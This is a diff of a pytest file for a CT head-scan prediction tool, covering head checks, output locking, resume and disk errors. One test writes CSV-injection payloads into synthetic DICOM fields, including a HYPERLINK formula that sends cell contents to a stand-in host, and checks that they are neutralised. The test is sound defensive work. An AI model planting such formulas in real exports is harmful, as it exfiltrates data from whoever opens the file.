@@ -5,8 +5,11 @@ as training leaves it (config.json + checkpoint) from random He-scaled weights: 
 is the prediction path, not what the model learnt.
 """
 
+import csv
 import json
+import os
 import pathlib
+import shutil
 import sys
 
 import numpy as np
@@ -93,7 +96,7 @@ def test_corrupt_series_is_recorded_and_the_rest_predicted(run_dir, run, scans, 
   out = tmp_path / "preds.csv"
   status = predict_cli.main(["--workdir", str(run_dir), "--scans", str(scans), "--out",
                              str(out), "--reports", str(tmp_path / "reports"), "--workers", "2",
-                             "--batch_size", "4", "--noprogress"])
+                             "--batch_size", "4", "--noprogress", "--norequire_head"])
   captured = capsys.readouterr()
   assert status == 0, captured.err
   warnings = [ln for ln in captured.err.splitlines() if ln.startswith("warning:")]
@@ -144,7 +147,7 @@ def test_corrupt_series_is_recorded_and_the_rest_predicted(run_dir, run, scans, 
   assert side["run"]["step"] == 3 and side["thresholds"] == thr
   # Rerun: nothing left to do; the recorded failure still warns, and --fail_on_error exits 1.
   assert predict_cli.main(["--workdir", str(run_dir), "--scans", str(scans), "--out", str(out),
-                           "--noprogress", "--fail_on_error"]) == 1
+                           "--noprogress", "--fail_on_error", "--norequire_head"]) == 1
   captured = capsys.readouterr()
   assert "0 predicted, 0 could not be read, 7 already there" in captured.out
   assert "warning: 1 of 7 series could not be read" in captured.err
@@ -155,26 +158,27 @@ def test_killed_run_resumed_gives_the_same_file(run, scans, tmp_path):
   refs = archive.find_scans(scans)
   whole = tmp_path / "whole.jsonl"
   s = archive.predict_scans(run, refs, whole, batch_size=4, workers=1, progress=False,
-                               timings=False)
+                               timings=False, require_head=False)
   assert (s.predicted, s.failed) == (6, 1)
   part = tmp_path / "part.jsonl"
   with pytest.raises(KeyboardInterrupt):
     archive.predict_scans(run, refs, part, batch_size=4, workers=0, progress=False,
-                             timings=False, stop_after_batches=1)
+                             timings=False, stop_after_batches=1, require_head=False)
   first = part.read_text().splitlines()
   assert len(first) == 4
   with open(part, "a") as f:              # killed in the middle of writing the next row
     f.write('{"scan": "b", "pa')
   s = archive.predict_scans(run, refs, part, batch_size=4, workers=0, progress=False,
-                               timings=False)
+                               timings=False, require_head=False)
   assert (s.skipped, s.predicted + s.failed) == (4, 3)
   assert part.read_bytes() == whole.read_bytes()
   # With the timing columns the files differ only there.
   timed = tmp_path / "timed.csv"
   with pytest.raises(KeyboardInterrupt):
     archive.predict_scans(run, refs, timed, batch_size=4, workers=0, progress=False,
-                             stop_after_batches=1)
-  archive.predict_scans(run, refs, timed, batch_size=4, workers=0, progress=False)
+                             stop_after_batches=1, require_head=False)
+  archive.predict_scans(run, refs, timed, batch_size=4, workers=0, progress=False,
+                        require_head=False)
   strip = lambda rows: [{k: v for k, v in r.items() if k not in archive.TIMING}  # noqa: E731
                         for r in rows]
   assert strip(archive.read_rows(timed)) == strip(archive.read_rows(whole))
@@ -185,15 +189,15 @@ def test_output_of_other_columns_or_model_is_refused(run, scans, tmp_path):
   out = tmp_path / "p.csv"
   out.write_text("scan,prob_x\nq,0.5\n")
   with pytest.raises(archive.OutputMismatchError, match="columns differ"):
-    archive.predict_scans(run, refs, out, workers=0, progress=False)
+    archive.predict_scans(run, refs, out, workers=0, progress=False, require_head=False)
   out = tmp_path / "p.jsonl"
-  archive.predict_scans(run, refs, out, workers=0, progress=False)
+  archive.predict_scans(run, refs, out, workers=0, progress=False, require_head=False)
   side = archive.sidecar_path(out)
   meta = json.loads(side.read_text())
   meta["run"]["step"] = 999
   side.write_text(json.dumps(meta))
   with pytest.raises(archive.OutputMismatchError, match="step 999"):
-    archive.predict_scans(run, refs, out, workers=0, progress=False)
+    archive.predict_scans(run, refs, out, workers=0, progress=False, require_head=False)
   with pytest.raises(archive.ConfigError, match=".csv or .jsonl"):
     archive.predict_scans(run, refs, tmp_path / "p.txt", workers=0, progress=False)
 
@@ -222,3 +226,281 @@ def test_predictions_on_the_test_split_equal_evaluate(run_dir, run, tmp_path, ca
   assert predict_cli.main(["--workdir", str(run_dir), "--split", "test", "--scans", "x",
                            "--out", str(out)]) == 2
   assert capsys.readouterr().err.strip().startswith("error: give exactly one of")
+
+
+
+# ------------------------------------------------------------------ issue 27: head check and QA
+
+
+def _head(folder, uid, **kw):
+  from tests.inference.test_scan_reports import write_head
+  return write_head(folder, uid=uid, **kw)
+
+
+def test_rows_carry_the_head_verdict_and_qa_flags(run_dir, run, tmp_path):
+  """A phantom head is predicted with head 1 and its QA flags; a series that is no head CT is
+  an error row with the reason and no probabilities (config.data.require_head, True also for a
+  run whose config.json predates the field); --norequire_head predicts it with not_head."""
+  root = tmp_path / "archive"
+  _head(root / "head", "1.2.826.0.50.1")
+  rng = np.random.default_rng(3)
+  ctdicom_helpers.write_series(root / "noise", rng.normal(30, 50, size=(9, 40, 40)),
+                               series_uid="1.2.826.0.50.2")
+  refs = archive.find_scans(root)
+  out = tmp_path / "p.csv"
+  archive.predict_scans(run, refs, out, workers=0, progress=False)
+  rows = archive.rows_by_key(archive.read_rows(out))
+  head, noise = rows["head"], rows["noise"]
+  assert (head["status"], head["head"], head["qa_flags"]) == ("ok", 1,
+                                                              ["few_slices", "small_matrix"])
+  assert head["prob_any"] is not None
+  assert (noise["status"], noise["head"]) == ("error", 0)
+  assert noise["error"].startswith(os.path.realpath(root / "noise") + ": not a head CT (")
+  assert noise["qa_flags"][0] == "not_head" and "small_matrix" in noise["qa_flags"]
+  assert noise["prob_any"] is None and noise["call_any"] is None and noise["key_slices"] is None
+  assert noise["series_uid"] == "1.2.826.0.50.2" and noise["num_source_slices"] == 9
+  text = out.read_text()
+  assert "few_slices small_matrix" in text                       # CSV lists: space-separated
+  side = json.loads(archive.sidecar_path(out).read_text())
+  assert side["columns"][9:11] == ["head", "qa_flags"] and side["csv_lists"] == "space-separated"
+  js = tmp_path / "p.jsonl"
+  archive.predict_scans(run, refs, js, workers=0, progress=False)
+  assert [json.loads(ln)["qa_flags"] for ln in js.read_text().splitlines()] == [
+      head["qa_flags"], noise["qa_flags"]]
+  # A run saved before config.data.require_head existed reads it as True.
+  old = tmp_path / "old_run"
+  shutil.copytree(run_dir, old)
+  cfg = json.loads((old / "config.json").read_text())
+  del cfg["data"]["require_head"]
+  (old / "config.json").write_text(json.dumps(cfg))
+  assert predict_cli.main(["--workdir", str(old), "--scans", str(root / "noise"), "--out",
+                           str(tmp_path / "old.csv"), "--noprogress"]) == 0
+  (row,) = archive.read_rows(tmp_path / "old.csv")
+  assert row["status"] == "error" and "not a head CT" in row["error"]
+  # For research: predicted anyway, flagged.
+  archive.predict_scans(run, refs[1:], tmp_path / "any.csv", workers=0, progress=False,
+                        require_head=False)
+  (row,) = archive.read_rows(tmp_path / "any.csv")
+  assert row["status"] == "ok" and row["head"] == 0 and "not_head" in row["qa_flags"]
+
+
+# ------------------------------------------------------------------ issue 28: prediction files
+
+
+def test_one_writer_per_output_and_a_stale_lock_is_taken_over(run_dir, run, scans, tmp_path,
+                                                             capsys):
+  from ctjax import fileio
+  from ctjax.errors import LockedError
+  refs = archive.find_scans(scans)[:2]
+  out = tmp_path / "p.csv"
+  with fileio.exclusive_lock(archive.lock_path(out), "--out file", target=out):
+    with pytest.raises(LockedError, match=r"--out file is in use by pid \d+ on host"):
+      archive.predict_scans(run, refs, out, workers=0, progress=False, require_head=False)
+    assert predict_cli.main(["--workdir", str(run_dir), "--scans", str(scans / "a"), "--out",
+                             str(out), "--noprogress", "--norequire_head"]) == 1
+    err = capsys.readouterr().err.strip().splitlines()
+    assert len(err) == 1 and err[0].startswith(f"error: {out}: --out file is in use by pid")
+    assert "p.csv.lock" in err[0] and not out.exists()
+  # A lock left by a process that is gone (same host: its pid no longer runs).
+  lock = archive.lock_path(out)
+  record = json.loads(json.dumps(fileio._this_process("--out file")))
+  record["pid"] = 2 ** 22 + 17
+  lock.write_text(json.dumps(record))
+  s = archive.predict_scans(run, refs, out, workers=0, progress=False, require_head=False)
+  assert s.predicted == 2 and not lock.exists()
+  assert len(archive.read_rows(out)) == 2
+
+
+def test_rows_are_keyed_by_series_uid_not_folder_names(run, tmp_path):
+  """Another archive whose folders have the same names is predicted; the same archive copied
+  elsewhere, or a series listed twice, is not predicted again."""
+  rng = np.random.default_rng(5)
+  for arch, base in (("one", 10), ("two", 20)):
+    for i, name in enumerate(["x", "y"]):
+      ctdicom_helpers.write_series(tmp_path / arch / name, rng.normal(0, 40, size=(6, 24, 24)),
+                                   series_uid=f"1.2.826.0.{base + i}")
+  out = tmp_path / "p.jsonl"
+  kw = dict(workers=0, progress=False, require_head=False, timings=False)
+  s1 = archive.predict_scans(run, archive.find_scans(tmp_path / "one"), out, **kw)
+  s2 = archive.predict_scans(run, archive.find_scans(tmp_path / "two"), out, **kw)
+  assert (s1.predicted, s2.predicted, s2.skipped) == (2, 2, 0)
+  rows = archive.read_rows(out)
+  assert [r["scan"] for r in rows] == ["x", "y", "x", "y"]
+  assert [r["series_uid"] for r in rows] == ["1.2.826.0.10", "1.2.826.0.11", "1.2.826.0.20",
+                                             "1.2.826.0.21"]
+  assert rows[0]["path"] == os.path.realpath(tmp_path / "one" / "x")
+  shutil.copytree(tmp_path / "one", tmp_path / "copy")
+  s3 = archive.predict_scans(run, archive.find_scans(tmp_path / "copy"), out, **kw)
+  assert (s3.predicted, s3.skipped, s3.elsewhere) == (0, 2, 2)
+  shutil.copytree(tmp_path / "two" / "x", tmp_path / "three" / "x_again")
+  shutil.copytree(tmp_path / "two" / "x", tmp_path / "three" / "x")
+  ctdicom_helpers.write_series(tmp_path / "three" / "z", rng.normal(0, 40, size=(6, 24, 24)),
+                               series_uid="1.2.826.0.30")
+  s4 = archive.predict_scans(run, archive.find_scans(tmp_path / "three"), out, **kw)
+  assert (s4.predicted, s4.skipped, s4.duplicates) == (1, 2, 0)
+  assert len(archive.read_rows(out)) == 5
+  # Listed twice in one run (the UID read from the headers when listing): predicted once.
+  for n in ("p", "q"):
+    shutil.copytree(tmp_path / "three" / "z", tmp_path / "four" / n)
+  s5 = archive.predict_scans(run, archive.find_scans(tmp_path / "four"), tmp_path / "q.jsonl",
+                             **kw)
+  assert (s5.predicted, s5.duplicates) == (1, 1)
+
+
+def test_csv_cells_cannot_be_spreadsheet_formulas(run, tmp_path):
+  """OWASP's CSV-injection characters at the start of a text cell get a leading quote in the
+  CSV; the JSON lines keep the text as read; read_rows gives it back unchanged."""
+  rng = np.random.default_rng(6)
+  hostile = {"f": ('=HYPERLINK("http://x.example/?"&A1,"click")', "+41 7", "1.2.826.0.61"),
+             "g": ("@SUM(1+1)", "-cmd", "1.2.826.0.62"),
+             "h": ("-1 + 2", "'quoted", "1.2.826.0.63")}
+  for name, (desc, pid, uid) in hostile.items():
+    ctdicom_helpers.write_series(tmp_path / "arch" / name, rng.normal(0, 40, size=(6, 24, 24)),
+                                 series_uid=uid, description=desc, patient_id=pid)
+  refs = archive.find_scans(tmp_path / "arch")
+  kw = dict(workers=0, progress=False, require_head=False, timings=False)
+  archive.predict_scans(run, refs, tmp_path / "p.csv", **kw)
+  archive.predict_scans(run, refs, tmp_path / "p.jsonl", **kw)
+  with open(tmp_path / "p.csv", newline="") as f:
+    cells = [c for row in csv.reader(f) for c in row]
+  starts = {"=", "+", "-", "@", "\t", "\r"}
+  assert not [c for c in cells if c[:1] in starts], "a cell a spreadsheet would run"
+  assert "'=HYPERLINK(" in (tmp_path / "p.csv").read_text()
+  assert "'+41 7" in cells and "'-cmd" in cells and "''quoted" in cells and "'-1 + 2" in cells
+  # Leading tab and carriage return (DICOM text loses them when read: checked on the cell).
+  assert archive._csv_cell("error", "\tx") == "'\tx" and archive._csv_cell("scan", "\rx") == "'\rx"
+  assert archive._parse_cell("error", "'\tx") == "\tx" and archive._csv_cell("prob_any", -0.5) == "-0.5"
+  by_csv = archive.rows_by_key(archive.read_rows(tmp_path / "p.csv"))
+  by_json = archive.rows_by_key(archive.read_rows(tmp_path / "p.jsonl"))
+  for name, (desc, pid, _) in hostile.items():
+    assert by_json[name]["series_description"] == by_csv[name]["series_description"] == desc
+    assert by_json[name]["patient_id"] == by_csv[name]["patient_id"] == pid
+  assert '"series_description": "=HYPERLINK(' in (tmp_path / "p.jsonl").read_text()
+
+
+def test_resume_drops_a_row_cut_inside_a_quoted_field(run, tmp_path):
+  """A killed run's file ends just after a newline inside a quoted cell: resume drops that row
+  (it does not swallow the next one) and the file ends as an uninterrupted run's."""
+  rng = np.random.default_rng(7)
+  for i, name in enumerate(["m", "n", "o"]):
+    ctdicom_helpers.write_series(tmp_path / "arch" / name, rng.normal(0, 40, size=(6, 24, 24)),
+                                 series_uid=f"1.2.826.0.7{i}", description=f"two\nlines {i}")
+  refs = archive.find_scans(tmp_path / "arch")
+  kw = dict(workers=0, progress=False, require_head=False, timings=False, batch_size=4)
+  whole = tmp_path / "whole.csv"
+  archive.predict_scans(run, refs, whole, **kw)
+  raw = whole.read_bytes()
+  cut = tmp_path / "cut.csv"
+  cut.write_bytes(raw[:raw.index(b"two\nlines 2") + 4])        # ends with "two\n"
+  assert cut.read_bytes().endswith(b'"two\n')
+  s = archive.predict_scans(run, refs, cut, **kw)
+  assert (s.skipped, s.predicted) == (2, 1)
+  assert cut.read_bytes() == raw
+  assert [r["series_description"] for r in archive.read_rows(cut)] == [
+      "two\nlines 0", "two\nlines 1", "two\nlines 2"]
+  # Damage before the last row is no interruption: refused in one line.
+  lines = raw.split(b"\n")
+  bad = tmp_path / "bad.csv"
+  bad.write_bytes(b"\n".join(lines[:1] + [lines[1][:20]] + lines[2:]))
+  with pytest.raises(archive.OutputMismatchError, match=r"bad.csv: record 2 .* is damaged"):
+    archive.predict_scans(run, refs, bad, **kw)
+  bad = tmp_path / "bad.jsonl"
+  archive.predict_scans(run, refs, bad, **kw)
+  jl = bad.read_bytes().split(b"\n")
+  bad.write_bytes(b"\n".join([jl[0][:30]] + jl[1:]))
+  with pytest.raises(archive.OutputMismatchError, match="line 1 is damaged"):
+    archive.predict_scans(run, refs, bad, **kw)
+
+
+def test_unreadable_folders_and_files_are_error_rows(run, scans, tmp_path, monkeypatch):
+  """The operating system refuses a folder and a file (permission denied; simulated, as root
+  reads anything): each becomes an error row with the OS's reason, the rest is predicted."""
+  import errno
+  import pydicom
+  from ctjax.data import dicom
+  root = tmp_path / "arch"
+  shutil.copytree(scans / "a", root / "a")
+  shutil.copytree(scans / "b", root / "locked")
+  shutil.copytree(scans / "d", root / "d")
+  denied_dir = root / "locked"
+  denied_file = sorted((root / "d").iterdir())[2]
+  real_iterdir, real_read = pathlib.Path.iterdir, pydicom.dcmread
+
+  def iterdir(self):
+    if self == denied_dir:
+      raise PermissionError(errno.EACCES, "Permission denied", str(self))
+    return real_iterdir(self)
+
+  def dcmread(path, *a, **k):
+    if os.fspath(path) == str(denied_file):
+      raise PermissionError(errno.EACCES, "Permission denied", os.fspath(path))
+    return real_read(path, *a, **k)
+
+  monkeypatch.setattr(pathlib.Path, "iterdir", iterdir)
+  monkeypatch.setattr(dicom.pydicom, "dcmread", dcmread)
+  with pytest.raises(dicom.errors.UnreadableFileError, match="Permission denied"):
+    dicom.read_header(denied_file)
+  refs = archive.find_scans(root)
+  assert [r.key for r in refs] == ["a", "d", "locked"]
+  out = tmp_path / "p.jsonl"
+  s = archive.predict_scans(run, refs, out, workers=0, progress=False, require_head=False)
+  assert (s.predicted, s.failed) == (1, 2)
+  rows = archive.rows_by_key(archive.read_rows(out))
+  assert rows["a"]["status"] == "ok"
+  assert rows["locked"]["error"] == (f"{denied_dir}: not a usable CT series (cannot list the "
+                                     "folder (Permission denied))")
+  assert rows["d"]["error"] == (f"{root / 'd'}: not a usable CT series ({denied_file.name}: "
+                               "cannot read it (Permission denied))")
+  assert "ends inside the header" not in rows["d"]["error"]
+  assert rows["locked"]["qa_flags"] == ["failed"] and rows["locked"]["series_uid"] is None
+
+
+def test_a_full_disk_names_the_output_and_leaves_no_half_row(run, scans, tmp_path,
+                                                            monkeypatch):
+  import errno
+  from ctjax.errors import DiskFullError
+  refs = archive.find_scans(scans)[:3]
+  out = tmp_path / "p.csv"
+  kw = dict(workers=0, progress=False, require_head=False, batch_size=4)
+  archive.predict_scans(run, refs[:1], out, **kw)
+  before = out.read_bytes()
+  real_write_text = pathlib.Path.write_text
+
+  def no_space(*a):
+    raise OSError(errno.ENOSPC, "No space left on device")
+
+  def write_text_full(self, *a, **k):   # the sidecar's file is created, then its write fails
+    if ".tmp" not in self.name:
+      return real_write_text(self, *a, **k)
+    real_write_text(self, "")
+    raise OSError(errno.ENOSPC, "No space left on device")
+
+  monkeypatch.setattr(archive.os, "fsync", no_space)
+  monkeypatch.setattr(pathlib.Path, "write_text", write_text_full)
+  with pytest.raises(DiskFullError) as e:
+    archive.predict_scans(run, refs, out, **kw)
+  msg = str(e.value)
+  assert msg.startswith(f"{out}: disk full while writing predictions")
+  assert "free on that file system" in msg and "\n" not in msg
+  assert out.read_bytes() == before                     # the failed batch left nothing
+  assert sorted(p.name for p in tmp_path.iterdir()) == ["p.csv", "p.csv.json"]   # no .tmp
+  with pytest.raises(DiskFullError):           # a new output: not even an empty file is left
+    archive.predict_scans(run, refs, tmp_path / "new.csv", **kw)
+  assert sorted(p.name for p in tmp_path.iterdir()) == ["p.csv", "p.csv.json"]
+  # The lock file, when it is what the full disk refuses, is named the same way.
+  monkeypatch.setattr(pathlib.Path, "write_text", lambda self, *a, **k: no_space())
+  with pytest.raises(DiskFullError, match=r"p.csv.lock: disk full while taking the lock of "
+                     r"--out file, .* free on that file system"):
+    archive.predict_scans(run, refs, out, **kw)
+
+
+def test_startup_says_what_it_does(run_dir, scans, tmp_path, capsys):
+  assert predict_cli.main(["--workdir", str(run_dir), "--scans", str(scans / "a"), "--out",
+                           str(tmp_path / "p.csv"), "--progress", "--workers", "1",
+                           "--norequire_head"]) == 0
+  err = capsys.readouterr().err
+  for step in (f"restoring {run_dir}", f"listing the series under {scans / 'a'}",
+               "starting 1 decode worker(s) and compiling the model for batches of"):
+    assert step in err, err
+  assert err.index("restoring") < err.index("listing") < err.index("starting") < \
+      err.index("predict: 100%")
